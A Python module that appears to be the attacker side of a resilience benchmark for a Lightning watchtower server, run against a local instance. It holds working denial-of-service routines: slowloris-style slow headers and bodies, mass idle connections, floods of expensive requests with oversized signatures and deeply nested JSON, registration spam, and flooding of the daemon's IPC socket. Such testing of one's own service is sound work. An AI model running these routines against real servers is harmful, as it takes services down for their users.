"""The attacks of ``bench/adversary.py``, each run in its own process from one loopback address.

Every attack is bounded: it stops at ``deadline`` (a ``time.time()`` value), never holds more than the
connections it was given, and returns a short dict of what it did (``run`` puts it on a queue). They use
non-blocking sockets and a selector where they hold many connections, so the attacker's own CPU stays
small next to the tower's (both share this machine's cores).
"""

from __future__ import annotations

import contextlib
import errno
import http.client
import json
import os
import random
import resource
import selectors
import socket
import string
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from common import crypto
from common.appointment import Appointment
from common.types import Locator

Stats = dict[str, Any]


@dataclass(frozen=True)
class Target:
    """Where the tower listens and who the attack may use."""

    host: str
    api_port: int
    admin_port: int
    source: str  # the attacker's loopback address
    ipc_address: str = ""  # teosd's worker channel: a socket file, or "\\0" + an abstract name
    big_user_key: bytes = b""  # secret key of a user holding many appointments (F7)
    params: dict[str, Any] = field(default_factory=dict)


def source_address(host: str) -> tuple[str, int] | None:
    """What to bind a client socket to for ``host``: nothing for 127.0.0.1 (the default source), so that
    the kernel may reuse a local port towards another destination; binding port 0 first reserves one
    port per socket out of ~28,000, which thousands of connections plus TIME_WAIT use up."""
    return None if host == "127.0.0.1" else (host, 0)


def raise_nofile() -> int:
    """Raises this process's open-file soft limit to the hard limit; returns the new soft limit."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


# -- many connections: idle, slow headers, slow bodies ------------------------------------------------


class _Holder:
    """Keeps up to ``n`` TCP connections open to ``port`` from ``source``, reopening those the server
    closes; ``on_tick(sock, now)`` may write to open ones (slow headers/bodies)."""

    def __init__(self, target: Target, port: int, n: int, first: bytes, open_rate: float) -> None:
        self.target = target
        self.port = port
        self.n = n
        self.first = first  # sent once connected
        self.open_rate = open_rate  # new connections per second at most
        self.sel = selectors.DefaultSelector()
        self.socks: dict[socket.socket, float] = {}  # sock -> time of its last write
        self.opened = 0
        self.closed_by_server = 0
        self.connect_errors = 0
        self.peak = 0

    def _open(self) -> None:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            bind = source_address(self.target.source)
            if bind is not None:
                s.bind(bind)
            rc = s.connect_ex((self.target.host, self.port))
        except OSError:
            s.close()
            self.connect_errors += 1
            return
        if rc not in (0, errno.EINPROGRESS):
            s.close()
            self.connect_errors += 1
            return
        self.sel.register(s, selectors.EVENT_WRITE)
        self.socks[s] = 0.0
        self.opened += 1

    def _drop(self, s: socket.socket) -> None:
        with contextlib.suppress(KeyError, ValueError):
            self.sel.unregister(s)
        self.socks.pop(s, None)
        s.close()

    def run(self, deadline: float, tick: Callable[[socket.socket, float], bytes] | None) -> Stats:
        last_open = time.monotonic()
        budget = 0.0
        while time.time() < deadline:
            now = time.monotonic()
            budget = min(self.open_rate, budget + (now - last_open) * self.open_rate)
            last_open = now
            while len(self.socks) < self.n and budget >= 1:
                self._open()
                budget -= 1
            self.peak = max(self.peak, len(self.socks))
            for key, events in self.sel.select(timeout=0.1):
                s = key.fileobj
                assert isinstance(s, socket.socket)
                if events & selectors.EVENT_WRITE:
                    err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                    if err:
                        self.connect_errors += 1
                        self._drop(s)
                        continue
                    try:
                        if self.first:
                            s.send(self.first)
                    except OSError:
                        self._drop(s)
                        continue
                    self.socks[s] = now
                    self.sel.modify(s, selectors.EVENT_READ)
                elif events & selectors.EVENT_READ:
                    try:
                        data = s.recv(65536)
                    except OSError:
                        data = b""
                    if not data:
                        self.closed_by_server += 1
                        self._drop(s)
            if tick is not None:
                for s, last in list(self.socks.items()):
                    if last and now - last >= 1.0:
                        payload = tick(s, now)
                        if payload:
                            try:
                                s.send(payload)
                                self.socks[s] = now
                            except OSError:
                                self.closed_by_server += 1
                                self._drop(s)
        held = len(self.socks)
        for s in list(self.socks):
            self._drop(s)
        return {
            "held_at_end": held,
            "peak": self.peak,
            "opened": self.opened,
            "closed_by_server": self.closed_by_server,
            "connect_errors": self.connect_errors,
        }


def _slow_tick(every: float) -> Callable[[socket.socket, float], bytes]:
    """One byte per connection every ``every`` seconds (spread over the connections)."""
    phase: dict[int, float] = {}

    def tick(s: socket.socket, now: float) -> bytes:
        start = phase.setdefault(s.fileno(), now + random.random() * every)
        if now >= start:
            phase[s.fileno()] = now + every
            return b"a"
        return b""

    return tick


def idle(target: Target, deadline: float) -> Stats:
    """F1: connections that never send a byte, reopened when the server closes them."""
    n = int(target.params.get("connections", 10000))
    return _Holder(target, target.api_port, n, b"", 5000).run(deadline, None)


def slow_headers(target: Target, deadline: float) -> Stats:
    """F1 (slowloris): a request header that never ends, one byte every few seconds."""
    n = int(target.params.get("connections", 10000))
    first = b"POST /register HTTP/1.1\r\nHost: tower\r\nX-Padding: "
    return _Holder(target, target.api_port, n, first, 5000).run(deadline, _slow_tick(5.0))


def slow_bodies(target: Target, deadline: float) -> Stats:
    """F1: a complete header announcing a 2000-byte body that then arrives one byte every few seconds."""
    n = int(target.params.get("connections", 10000))
    first = (
        b"POST /add_appointment HTTP/1.1\r\nHost: tower\r\nContent-Type: application/json\r\n"
        b"User-Agent: python-requests/2.31.0\r\nContent-Length: 2000\r\n\r\n{"
    )
    return _Holder(target, target.api_port, n, first, 5000).run(deadline, _slow_tick(5.0))


def admin_idle(target: Target, deadline: float) -> Stats:
    """F9: idle connections to the admin port."""
    n = int(target.params.get("connections", 10000))
    return _Holder(target, target.admin_port, n, b"", 5000).run(deadline, None)


# -- floods of requests -------------------------------------------------------------------------------


def _flood(
    target: Target,
    deadline: float,
    make: Callable[[int], tuple[str, str, bytes, dict[str, str]]],
    threads: int,
) -> Stats:
    """``threads`` keep-alive connections sending ``make(i)`` requests back to back until ``deadline``."""
    counts: dict[str, int] = {}
    lock = threading.Lock()
    sequence = iter(range(10**9))

    def worker() -> None:
        conn: http.client.HTTPConnection | None = None
        while time.time() < deadline:
            with lock:
                i = next(sequence)
            method, path, body, headers = make(i)
            try:
                if conn is None:
                    conn = http.client.HTTPConnection(
                        target.host, target.api_port, timeout=10, source_address=source_address(target.source)
                    )
                conn.request(method, path, body=body, headers=headers)
                response = conn.getresponse()
                response.read()
                key = str(response.status)
                if response.getheader("Connection", "").lower() == "close":
                    conn.close()
                    conn = None
            except (OSError, http.client.HTTPException) as e:
                key = type(e).__name__
                if conn is not None:
                    conn.close()
                conn = None
            with lock:
                counts[key] = counts.get(key, 0) + 1
        if conn is not None:
            conn.close()

    workers = [threading.Thread(target=worker, daemon=True) for _ in range(threads)]
    for w in workers:
        w.start()
    for w in workers:
        w.join(timeout=max(1.0, deadline - time.time() + 15))
    return {"answers": dict(sorted(counts.items())), "requests": sum(counts.values())}


PYTHON_HEADERS = {"Content-Type": "application/json", "User-Agent": "python-requests/2.31.0"}


ZBASE32 = "ybndrfg8ejkmcpqxot1uwisza345h769"


def junk_signature(n: int = 65536) -> str:
    """``n`` random z-base-32 characters (not all ``y``, whose value 0 decodes for free)."""
    return "".join(random.choices(ZBASE32, k=n))


def big_signature(target: Target, deadline: float) -> Stats:
    """F2: a 64 KB z-base-32 ``signature`` to /get_subscription_info (python dialect), 48 connections."""
    body = json.dumps({"signature": junk_signature(60_000)}).encode()
    threads = int(target.params.get("threads", 48))
    return _flood(
        target, deadline, lambda i: ("POST", "/get_subscription_info", body, PYTHON_HEADERS), threads
    )


def request_maker(
    kind: str, big_user_key: bytes = b""
) -> Callable[[int], tuple[str, str, bytes, dict[str, str]]]:
    """Builds the ``i``-th request of ``kind`` (the kinds of ``adversary.REQUEST_KINDS``)."""
    attacker = crypto.generate_secret_key()
    headers = PYTHON_HEADERS
    if kind == "ping":
        return lambda i: ("GET", "/ping", b"", {})
    if kind == "register":
        return lambda i: (
            "POST",
            "/register",
            json.dumps({"public_key": crypto.public_key(crypto.generate_secret_key()).hex()}).encode(),
            headers,
        )
    if kind in ("add_unknown_user_16k", "add_unknown_user_200"):
        size = 16 * 1024 if kind.endswith("16k") else 200
        blob = os.urandom(size).hex()

        def add(i: int) -> tuple[str, str, bytes, dict[str, str]]:
            locator = Locator(os.urandom(16))
            sig = crypto.sign(Appointment(locator, bytes.fromhex(blob), 20).serialize(), attacker)
            body = {
                "appointment": {"locator": locator.hex(), "encrypted_blob": blob, "to_self_delay": 20},
                "signature": sig,
            }
            return "POST", "/add_appointment", json.dumps(body).encode(), headers

        return add
    if kind == "info_unknown_user":
        body = json.dumps({"signature": crypto.sign(b"get subscription info", attacker)}).encode()
        return lambda i: ("POST", "/get_subscription_info", body, headers)
    if kind == "info_64k_signature":
        body = json.dumps({"signature": junk_signature(60_000)}).encode()
        return lambda i: ("POST", "/get_subscription_info", body, headers)
    if kind == "get_appointment_unknown":

        def get(i: int) -> tuple[str, str, bytes, dict[str, str]]:
            locator = os.urandom(16).hex()
            sig = crypto.sign(f"get appointment {locator}".encode(), attacker)
            return (
                "POST",
                "/get_appointment",
                json.dumps({"locator": locator, "signature": sig}).encode(),
                headers,
            )

        return get
    if kind == "json_64k_nested":
        body = b"[" * 30000 + b"]" * 30000
        return lambda i: ("POST", "/add_appointment", body, headers)
    if kind == "info_big_user":
        body = json.dumps({"signature": crypto.sign(b"get subscription info", big_user_key)}).encode()
        return lambda i: ("POST", "/get_subscription_info", body, headers)
    raise ValueError(f"unknown request kind {kind}")


def flood(target: Target, deadline: float) -> Stats:
    """F2: the most expensive valid-looking request (``params['kind']``), back to back, 48 connections."""
    kind = str(target.params["kind"])
    make = request_maker(kind, target.big_user_key)
    if kind.startswith("add_unknown"):  # pre-sign so the attacker's own CPU goes to sending
        made = [make(i) for i in range(2000)]
        return _flood(target, deadline, lambda i: made[i % len(made)], int(target.params.get("threads", 48)))
    return _flood(target, deadline, make, int(target.params.get("threads", 48)))


def big_answers(target: Target, deadline: float) -> Stats:
    """F7: concurrent get_subscription_info of a user holding many appointments, read in full."""
    make = request_maker("info_big_user", target.big_user_key)
    return _flood(target, deadline, make, int(target.params.get("threads", 16)))


def big_answers_slow_readers(target: Target, deadline: float) -> Stats:
    """F7: many get_subscription_info of the big user whose answers are read 4 KiB per second."""
    n = int(target.params.get("connections", 64))
    _, path, body, headers = request_maker("info_big_user", target.big_user_key)(0)
    head = "".join(f"{k}: {v}\r\n" for k, v in headers.items())
    request = (
        f"POST {path} HTTP/1.1\r\nHost: tower\r\n{head}Content-Length: {len(body)}\r\n\r\n"
    ).encode() + body
    socks: list[socket.socket] = []
    received = 0
    for _ in range(n):
        try:
            s = socket.create_connection(
                (target.host, target.api_port), timeout=5, source_address=source_address(target.source)
            )
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            s.sendall(request)
            s.setblocking(False)
            socks.append(s)
        except OSError:
            pass
    while time.time() < deadline:
        time.sleep(1.0)
        for s in socks:
            with contextlib.suppress(OSError):
                received += len(s.recv(4096))
    for s in socks:
        s.close()
    return {"connections": len(socks), "bytes_read": received}


def junk_methods(target: Target, deadline: float) -> Stats:
    """F4: requests with made-up methods (``FOO1 /ping``, ...), some of them 1,000 characters long."""
    n = int(target.params.get("requests", 40000))
    threads = 8
    per_thread = n // threads
    alphabet = string.ascii_uppercase
    counts: dict[str, int] = {}
    lock = threading.Lock()

    def worker(t: int) -> None:
        sent = 0
        s: socket.socket | None = None
        while sent < per_thread and time.time() < deadline:
            length = 1000 if sent % 500 == 0 else 8
            method = "".join(random.choices(alphabet, k=length))
            try:
                if s is None:
                    s = socket.create_connection(
                        (target.host, target.api_port),
                        timeout=10,
                        source_address=source_address(target.source),
                    )
                s.sendall(f"{method} /ping HTTP/1.1\r\nHost: tower\r\nContent-Length: 0\r\n\r\n".encode())
                data = s.recv(65536)
                status = data.split(b" ", 2)[1].decode() if data.startswith(b"HTTP/") else "garbled"
                if not data or b"connection: close" in data.lower():
                    s.close()
                    s = None
            except (OSError, IndexError):
                status = "error"
                if s is not None:
                    s.close()
                s = None
            sent += 1
            with lock:
                counts[status] = counts.get(status, 0) + 1
        if s is not None:
            s.close()

    workers = [threading.Thread(target=worker, args=(t,), daemon=True) for t in range(threads)]
    for w in workers:
        w.start()
    for w in workers:
        w.join(timeout=max(1.0, deadline - time.time() + 15))
    return {"answers": dict(sorted(counts.items())), "requests": sum(counts.values())}


def registration_spam(target: Target, deadline: float) -> Stats:
    """F8: fresh registrations as fast as 8 connections go."""
    return _flood(target, deadline, request_maker("register"), int(target.params.get("threads", 8)))


def fill_with_fresh_users(target: Target, deadline: float) -> Stats:
    """F6: register fresh keys and fill the tower with their appointments (8 connections)."""
    threads = int(target.params.get("threads", 8))
    counts: dict[str, int] = {}
    lock = threading.Lock()

    def worker() -> None:
        conn: http.client.HTTPConnection | None = None
        key = b""

        def post(path: str, body: dict[str, Any]) -> int:
            nonlocal conn
            if conn is None:
                conn = http.client.HTTPConnection(
                    target.host, target.api_port, timeout=10, source_address=source_address(target.source)
                )
            conn.request("POST", path, body=json.dumps(body).encode(), headers=PYTHON_HEADERS)
            response = conn.getresponse()
            response.read()
            return response.status

        while time.time() < deadline:
            try:
                if not key:
                    key = crypto.generate_secret_key()
                    status = post("/register", {"public_key": crypto.public_key(key).hex()})
                    with lock:
                        counts[f"register {status}"] = counts.get(f"register {status}", 0) + 1
                    if status != 200:
                        key = b""
                        time.sleep(0.05)
                        continue
                locator = Locator(os.urandom(16))
                blob = os.urandom(100)
                sig = crypto.sign(Appointment(locator, blob, 20).serialize(), key)
                status = post(
                    "/add_appointment",
                    {
                        "appointment": {
                            "locator": locator.hex(),
                            "encrypted_blob": blob.hex(),
                            "to_self_delay": 20,
                        },
                        "signature": sig,
                    },
                )
                with lock:
                    counts[f"add {status}"] = counts.get(f"add {status}", 0) + 1
                if status != 200:
                    key = b""  # refused: try another fresh key
            except (OSError, http.client.HTTPException):
                if conn is not None:
                    conn.close()
                conn = None
                with lock:
                    counts["error"] = counts.get("error", 0) + 1

    workers = [threading.Thread(target=worker, daemon=True) for _ in range(threads)]
    for w in workers:
        w.start()
    for w in workers:
        w.join(timeout=max(1.0, deadline - time.time() + 15))
    return {"answers": dict(sorted(counts.items()))}


# -- the worker channel (F5) --------------------------------------------------------------------------


def ipc_flood(target: Target, deadline: float) -> Stats:
    """F5: connections to teosd's abstract worker socket that never present the token, one byte every
    4 s, reopened when closed; as another user (nobody) when this runs as root."""
    n = int(target.params.get("connections", 1100))
    if os.getuid() == 0:
        os.setgroups([])
        os.setgid(65534)
        os.setuid(65534)
    address = target.ipc_address
    sel = selectors.DefaultSelector()
    socks: dict[socket.socket, float] = {}
    opened = refused = closed = 0
    while time.time() < deadline:
        while len(socks) < n:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.setblocking(False)
            try:
                s.connect(address)
            except BlockingIOError:
                pass
            except OSError:  # the kernel refused (a socket file in a private directory)
                refused += 1
                s.close()
                break
            sel.register(s, selectors.EVENT_READ)
            socks[s] = time.monotonic()
            opened += 1
        now = time.monotonic()
        for key, _ in sel.select(timeout=0.2):
            ready = key.fileobj
            assert isinstance(ready, socket.socket)
            s = ready
            try:
                data = s.recv(100)
            except OSError:
                data = b""
            if not data:
                closed += 1
                sel.unregister(s)
                socks.pop(s, None)
                s.close()
        for s, last in list(socks.items()):
            if now - last >= 4.0:
                try:
                    s.send(b"x")
                    socks[s] = now
                except OSError:
                    closed += 1
                    sel.unregister(s)
                    socks.pop(s, None)
                    s.close()
        if refused and len(socks) < n:
            time.sleep(0.05)
    held = len(socks)
    for s in list(socks):
        s.close()
    return {
        "opened": opened,
        "closed_by_server": closed,
        "refused": refused,
        "held_at_end": held,
        "uid": os.getuid(),
    }


ATTACKS: dict[str, Callable[[Target, float], Stats]] = {
    "idle": idle,
    "slow_headers": slow_headers,
    "slow_bodies": slow_bodies,
    "slow_bodies_64": slow_bodies,
    "admin_idle": admin_idle,
    "big_signature": big_signature,
    "flood": flood,
    "big_answers": big_answers,
    "big_answers_slow": big_answers_slow_readers,
    "junk_methods": junk_methods,
    "registration_spam": registration_spam,
    "fill": fill_with_fresh_users,
    "ipc": ipc_flood,
}


def run(name: str, target: Target, deadline: float, queue: Any) -> None:
    """Entry point of an attack process: runs ``ATTACKS[name]`` and puts its stats on ``queue``.

    The attacker runs at the lowest CPU priority: on the internet its CPU is not the tower's, and here
    both share two cores, so without it the figures would show the machine running the attacker's own
    Python loops rather than what the tower spends on its requests."""
    os.nice(19)
    raise_nofile()
    try:
        stats = ATTACKS[name](target, deadline)
    except Exception as e:  # the driver prints it; a broken attack must not look like a held tower
        stats = {"attack_error": f"{type(e).__name__}: {e}"}
    queue.put(stats)
